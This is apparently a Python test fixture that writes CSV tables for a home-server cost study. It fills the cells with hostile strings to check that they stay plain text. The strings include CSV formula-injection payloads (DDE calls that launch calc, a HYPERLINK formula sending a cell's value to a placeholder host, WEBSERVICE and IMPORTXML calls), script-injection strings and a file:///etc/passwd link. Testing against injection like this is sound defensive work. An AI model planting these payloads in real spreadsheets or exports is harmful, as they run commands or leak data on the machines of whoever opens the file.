"""Texts that do harm where a program takes them for more than texts, and a study that holds them wherever it can.

From memory, after the page of OWASP on CSV injection and CWE-1236: formula signs, their wide twins, signs that end a
cell or a text, links and calls of other programs. Below, what a spreadsheet program turns into a number or a date.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

from tests.hostile import quoted

NAMES = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=HYPERLINK(\"http://a.invalid/?x=\"&A1,\"see\")",
    "=cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=WEBSERVICE(\"http://a.invalid/\")",
    "=IMPORTXML(CONCAT(\"http://a.invalid/\"),\"//a\")",
    "\"=1+1",
    "\",\"=1+1",
    ";=1+1",
    "x;=1+1",
    "=-2+3+cmd|' /C calc'!D2",
    "\u200d=1+1",
    "\u200c@SUM(1)",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}${7*7}",
    "http://a.invalid/",
    "mailto:a@a.invalid",
    "internal:'Summary'!A1",
    "file:///etc/passwd",
    "'quoted'!A1".replace("'", "’"),
    "[other.xlsx]Summary!A1",
    "#REF!",
    "&A&P&F",
    "%s %n {0}",
    "שלום =1+1",
    "👩\u200d💻👨\u200d👩\u200d👧",
    "e\u0301\u0302\u0303\u0304",
)  # fmt: skip
NUMBERS = ("1/2", "3-4", "2E3", "007", "TRUE", "12:30", "1e999", "0x1F", "1,5", "50%", "Mar-7", "nan", "inf", "None")
TEXTS = (
    *NAMES,
    "'=1+1",
    "line\n=1+1",
    "line\n\t=1+1",
    "a\tb\t=1+1",
    "]]><f>1+1</f>",
    "</t></is></c>",
    "_x0041_",
    "\u00a0=1+1",
)
Slots = dict[str, str]


def slots(start: int) -> tuple[Iterator[str], Iterator[str]]:
    """Names and texts in turn from some place on, each name unlike all others by its number."""
    names = (f"{name} n{number}" for number, name in enumerate(from_place(NAMES, start)))
    return names, iter(from_place(TEXTS, start))


def from_place(texts: tuple[str, ...], start: int) -> Iterator[str]:
    """Texts over and over."""
    own = cycle(texts)
    for _ in range(start % len(texts)):
        next(own)
    return own


# {lower case}: one name, the same wherever it stands; <>: a text of its own each time.
TABLES = {
    "study": """setting,value,source,note
question,<>,<>,<>
currency,EUR,<>,<>
start,2026-12,,
horizon,12 months,<>,<>
time zone,Europe/Vienna,,
discount,3 %,<>,<>
electricity growth,2 %,<>,<>
hour value,15 EUR/h,<>,<>
data held,8 TB,<>,<>
data growth,10 %,<>,<>
""",
    "scenarios": """scenario,title,baseline,parts list,tariff,busy share,upkeep,busy shape,site,source,note
{minis},<>,yes,@parts.csv,{tariff},,1 h/month,{shape},{site},<>,<>
{servers},<>,,=other.csv,{tariff},5 %,2 h/month,,{site},<>,<>
{rented},<>,,,,,,,,<>,<>
""",
    "@parts": "part,node,quantity,price,idle,busy,failures,replaced by,price path,resale,capacity,pool,watts at,"
    """efficiency,provides,needs,source,note
{mini},{node},3,129 EUR,9 W,28 W,{failing},,,{fetching},,,supply,,2 bay 3.5,,<>,<>
{supply},{node},3,20 EUR,,,,,,,,,,{efficient},90 W supply,,<>,<>
{drive},{node},3,99.50 EUR,5.5 W,8 W,{failing},{later},,{fetching},8 TB,{pool},,,,1 bay 3.5,<>,<>
{later},{node},0,180 EUR,5.5 W,8 W,{failing},,{path},,8 TB,{pool},,,,1 bay 3.5,<>,<>
{switch},,1,45 EUR,4 W,4 W,,,,,,,,,,,<>,<>
""",
    "=other": """part,quantity,price,idle,busy,failures,source,note
{server},2,150 EUR,80 W,140 W,,<>,<>
{disk},8,30 EUR,6 W,9 W,{failing},<>,<>
""",
    "nodes": "scenario,node,count,source,note\n{minis},{node},3,<>,<>\n",
    "pools": "scenario,pool,copies,source,note\n{minis},{pool},2,<>,<>\n",
    "sites": "site,bed distance,voltage,breaker,plug,rule,circuits,source,note\n"
    "{site},5 m,230 V,16 A,10 A,rating,1,<>,<>\n",
    "stated": "scenario,usable,node losses,source,note\n{rented},18 TB,2,<>,<>\n",
    "needs": "need,value,source,note\nhold data,yes,<>,<>\n",
    "tariffs": "tariff,start,growth,hours,source,note\n{tariff},2026-01,,{hours},<>,<>\n",
    "charges": """tariff,start,charge,price,period,fixed,percent,of,source,note
{tariff},2026-01,{day},0.24 EUR/kWh,{days},,,,<>,<>
{tariff},2026-01,{night},0.12 EUR/kWh,{nights},,,,<>,<>
{tariff},2026-01,{basic},,,9 EUR/month,,,<>,<>
{tariff},2026-01,{tax},,,,20 %,{taxed},<>,<>
{tariff},2026-01,{taxed},0.01 EUR/kWh,,,,,<>,<>
""",
    "hours": "hours,period,days,begins,ends,source,note\n{hours},{days},weekday,06:00,22:00,<>,<>\n"
    "{hours},{nights},otherwise,,,<>,<>\n",
    "holidays": "day,hours,source,note\n12-25,{hours},<>,<>\n",
    "home": "use,shape,source,note\n3000 kWh,{shape},<>,<>\n",
    "shapes": "shape,share,begins,ends,source,note\n{shape},60 %,18:00,22:00,<>,<>\n{shape},10 %,22:00,18:00,<>,<>\n",
    "efficiency": "curve,load,efficiency,source,note\n"
    "{efficient},10 %,80 %,<>,<>\n{efficient},100 %,90 %,<>,<>\n",
    "fees": "scenario,fee,amount per TB,first,path,source,note\n{rented},{fee},5.50 EUR/TB/month,1,{path},<>,<>\n",
    "one_offs": "scenario,what,month,amount,source,note\n"
    "{servers},{what},0,120 EUR,<>,<>\n{rented},{also},0,10 EUR,<>,<>\n",
    "failures": "curve,age,rate,source,note\n{failing},0 years,2 %/year,<>,<>\n{failing},4 years,3 %/year,<>,<>\n",
    "resale": "curve,base,age,share,source,note\n{fetching},own price,0 years,80 %,<>,<>\n"
    "{fetching},own price,5 years,20 %,<>,<>\n",
    "paths": "path,year,index,source,note\n{path},1,1,<>,<>\n{path},2,0.9,<>,<>\n",
    "exchange": "currency,rate,day,source,note\nUSD,0.92,2026-11-20,<>,<>\n",
    "ranges": "input,scenario,low,high,source,note\nelectricity price,,70 %,170 %,<>,<>\n"
    "hour value,,0 EUR/h,30 EUR/h,<>,<>\n",
    "purchases": "scenario,purchase,part,quantity,node,more nodes,needs,turn,most,source,note\n"
    "{minis},{more},{mini},1,,1,,2,2,<>,<>\n{minis},{more},{supply},1,,1,,,,<>,<>\n"
    "{minis},{more},{later},1,,1,,,,<>,<>\n"
    "{minis},{second},{later},3,{node},,,1,,<>,<>\n",
    "ledger": "scenario,day,what,part,quantity,amount,line,source,note\n"
    "{minis},2026-10-30,bought,{mini},3,402 EUR,,<>,<>\n"
    "{minis},2026-11-01,bought,{supply},3,60 EUR,,<>,<>\n"
    "{minis},2026-11-02,bought,{drive},3,290 EUR,,<>,<>\n{minis},2026-11-02,bought,{switch},1,45 EUR,,<>,<>\n"
    "{minis},2026-11-03,paid,,,12 EUR,one off,<>,<>\n",
}  # fmt: skip


def attacked(folder: Path, start: int = 0, named: dict[str, str] | None = None) -> Slots:
    """Write the study; returns what stands in the place of each name. named: some names as they are to be."""
    folder.mkdir(parents=True)
    names, texts = slots(start)
    found: Slots = {"taxed": "=taxed", **(named or {})}  # charges are named there with a + between
    for table, template in TABLES.items():
        rows = [
            ",".join(filled(cell, found, names, texts) for cell in row.split(",")) for row in template.splitlines()
        ]
        (folder / f"{table}.csv").write_text("\n".join(rows) + "\n", encoding="utf-8", newline="")
    return found


def filled(cell: str, found: Slots, names: Iterator[str], texts: Iterator[str]) -> str:
    """A cell of a template with its name or text."""
    if cell == "<>":
        return quoted(next(texts))
    if not cell.startswith("{"):
        return cell
    slot = cell.strip("{}")
    if slot not in found:
        found[slot] = next(names)
    return quoted(found[slot])
